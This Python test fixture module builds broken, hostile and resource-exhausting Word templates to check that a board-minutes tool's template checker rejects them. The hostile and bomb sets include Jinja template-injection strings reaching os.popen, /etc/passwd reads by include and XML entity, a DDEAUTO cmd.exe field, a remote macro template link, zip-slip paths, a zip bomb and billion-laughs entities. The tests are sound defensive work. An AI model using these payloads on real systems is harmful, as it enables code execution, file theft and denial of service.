"""Templates that must not be used, each made from the shipped minutes: broken, hostile, and bombs."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable, Iterator

from docx import Document

from boardtui.documents.package import pack, unpack
from boardtui.documents.templates import shipped_path

Make = Callable[[], bytes]

SHIPPED = shipped_path("minutes").read_bytes()
RELS = "word/_rels/document.xml.rels"
BODY = "word/document.xml"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"
CANARY = "canary-of-the-template-tests"
"""The file, in the folder the check is run in, that a template makes if it gets anything run."""

TOUCH = f"open('{CANARY}','w')"


def said(old: str, new: str) -> Make:
    """Return the minutes with some words of the template replaced, header and footer included."""

    def make() -> bytes:
        document = Document(io.BytesIO(SHIPPED))
        section = document.sections[0]
        for paragraph in (*document.paragraphs, *section.footer.paragraphs, *section.first_page_footer.paragraphs):
            for run in paragraph.runs:
                if old in run.text:
                    run.text = run.text.replace(old, new)
        made = io.BytesIO()
        document.save(made)
        return made.getvalue()

    return make


def instead(new: str) -> Make:
    """Return the minutes with other words in place of the date of the next meeting."""
    return said("{{ next }}", new)


def part(name: str, change: Callable[[str], str]) -> Make:
    """Return the minutes with one part changed, or added."""

    def make() -> bytes:
        parts = unpack(SHIPPED)
        return pack({**parts, name: change(parts.get(name, b"").decode()).encode()})

    return make


def linked(kind: str, target: str, mode: str = ' TargetMode="External"') -> Make:
    """Return the minutes with one more relationship of its text."""
    link = f'<Relationship Id="rId99" Type="{_OFFICE}/{kind}" Target="{target}"{mode}/></Relationships>'
    return part(RELS, lambda text: text.replace("</Relationships>", link))


def field(instruction: str) -> Make:
    """Return the minutes with a field of Word's own, put together from pieces as Word does."""
    half = len(instruction) // 2
    run = "".join(
        f"<w:r>{inner}</w:r>"
        for inner in (
            '<w:fldChar w:fldCharType="begin"/>',
            f"<w:instrText>{instruction[:half]}</w:instrText>",
            f"<w:instrText>{instruction[half:]}</w:instrText>",
            '<w:fldChar w:fldCharType="end"/>',
        )
    )
    return part(BODY, lambda text: text.replace("<w:sectPr", f"<w:p>{run}</w:p><w:sectPr", 1))


def packed(parts: Iterator[tuple[str, bytes]]) -> bytes:
    """Return a zip of these parts and of the minutes."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in (*unpack(SHIPPED).items(), *parts):
            package.writestr(name, data)
    return made.getvalue()


BROKEN: dict[str, tuple[Make, str]] = {
    "field not closed": (said("{{ heading }}", "{{ heading"), r"paragraph “\{\{ heading”: “\{\{” is not closed in it"),
    "field not opened": (instead("next }}"), r"paragraph “next \}\}”: “\}\}” closes what was never opened"),
    "empty file": (lambda: b"", "the file: it is not a Word document"),
    "not a zip": (lambda: b"Dear Sir", "the file: it is not a Word document"),
    "cut off": (lambda: SHIPPED[: len(SHIPPED) // 2], "the file: it is not a Word document"),
    "a zip of something else": (lambda: pack({"a.txt": b"x"}), "Content_Types.* is missing"),
    "unknown field": (instead("Next: {{ nxet }}"), "paragraph “Next: {{ nxet }}”: there is no field “nxet”.*“next”"),
    "unknown field of a row": (said("{{ item.title }}", "{{ item.tittle }}"), "no field “tittle” of “item”.*“title”"),
    "unknown field in a branch not taken": (
        instead("{% if draft == 'never' %}{{ nobody }}{% endif %}{{ next }}"),
        "there is no field “nobody”",
    ),
    "unknown field in the footer": (said("{{ footer }}", "{{ foot }}"), "there is no field “foot”.*“footer”"),
    "a tag that is not shut": (instead("{{ next"), "paragraph “"),
    "a loop that is not ended": (instead("{% for a in business %}{{ next }}"), "paragraph “"),
    "a sentence left out": (said("{{ entry.text }}", ""), "a sentence would be missing from it"),
    "XML that is not well formed": (part(BODY, lambda text: text.replace("</w:p>", "", 1)), "part word/document.xml"),
}
"""What a slip in Word or a damaged disk makes, with a pattern of the place and the reason."""

HOSTILE: dict[str, tuple[Make, str]] = {
    "runs code through the subclasses": (
        instead("{{ ''.__class__.__mro__[1].__subclasses__()[0].__init__.__builtins__." + TOUCH + " }}"),
        "it calls something",
    ),
    "runs code through a global": (
        instead("{{ cycler.__init__.__globals__.os.popen('touch " + CANARY + "').read() }}"),
        "it calls something",
    ),
    "walks attributes without a call": (instead("{{ next.__class__.__mro__ }}"), "no field “__class__” of “next”"),
    "walks attributes by a filter": (instead("{{ next|attr('__class__')|attr('__mro__') }}"), "the filter “attr”"),
    "reads a file": (instead("{% include '/etc/passwd' %}"), "it includes another file"),
    "turns escaping off": (instead("{{ next|safe }}{% autoescape false %}{{ next }}{% endautoescape %}"), "“safe”"),
    "another document's macros": (linked("attachedTemplate", "http://example.org/evil.dotm"), "attachedTemplate"),
    "a macro project": (part("word/vbaProject.bin", lambda _: "Sub AutoOpen()"), "part word/vbaProject.bin: .*macro"),
    "a .docm by its real type": (
        part("[Content_Types].xml", lambda text: text.replace(_MAIN, _MACROS)),
        "it holds macros or controls",
    ),
    "a picture fetched from outside": (linked("image", "http://example.org/seen.png"), "fetched from outside"),
    "a file of the server": (linked("image", "file:////server/share/x.png", ""), "leads outside the document"),
    "an embedded program": (linked("oleObject", "embeddings/x.bin", ""), "brings in something .*oleObject"),
    "another document embedded": (linked("aFChunk", "chunk.html", ""), "brings in something .*aFChunk"),
    "a link that runs a program": (linked("hyperlink", "javascript:alert(1)"), "http, https or mailto only"),
    "a DDE field in pieces": (field("DDEAUTO c:\\\\windows\\\\cmd.exe"), "the Word field “DDEAUTO"),
    "a field that fetches": (field('INCLUDEPICTURE "http://example.org/x.png"'), "the Word field “INCLUDEPICTURE"),
    "an entity that reads a file": (
        part(
            BODY,
            lambda text: text.replace("<w:document", '<!DOCTYPE x [<!ENTITY e SYSTEM "/etc/passwd">]><w:document', 1),
        ),
        "declares a document type or entities",
    ),
    "a part outside the document": (lambda: packed(iter([("../../" + CANARY, b"x")])), "its name leads outside"),
}
"""What somebody who means harm makes; each would run, fetch or read something if it were used."""

_LAUGHS = "<!DOCTYPE l [<!ENTITY a0 'ha'>" + "".join(
    f"<!ENTITY a{n} '&a{n - 1};&a{n - 1};&a{n - 1};&a{n - 1};'>" for n in range(1, 30)
)


def _loops(text: str) -> str:
    return "{% for a in business %}" * 18 + text + "{% endfor %}" * 18


BOMBS: dict[str, tuple[Make, str]] = {
    "a part that unpacks to 50 MB": (
        lambda: packed(iter([("word/media/a.png", bytes(50 << 20))])),
        "part word/media/a.png: it unpacks to more than 200 times",
    ),
    "thousands of parts": (
        lambda: packed((f"word/media/{n}.png", b"") for n in range(5_000)),
        "it has 5,0.. parts",
    ),
    "elements a hundred thousand deep": (
        part("word/comments.xml", lambda _: "<a>" * 100_000 + "</a>" * 100_000),
        "nested more than 200 levels",
    ),
    "entities that grow": (
        part(BODY, lambda text: text.replace("<w:document", f"{_LAUGHS}]><w:document", 1)),
        "declares a document type or entities",
    ),
    "a loop of a thousand million": (instead("{% for a in range(10**9) %}x{% endfor %}"), "it calls something"),
    "a text of a thousand million": (instead("{{ 'x' * 10**9 }}"), "“Mul” is not for templates"),
    "a field padded beyond memory": (instead("{{ next|center(9000000000) }}"), "more memory"),
    "loops inside loops": (instead(_loops("")), "it was not done after .* seconds"),
}
"""What is small and asks for more time or memory than there is."""
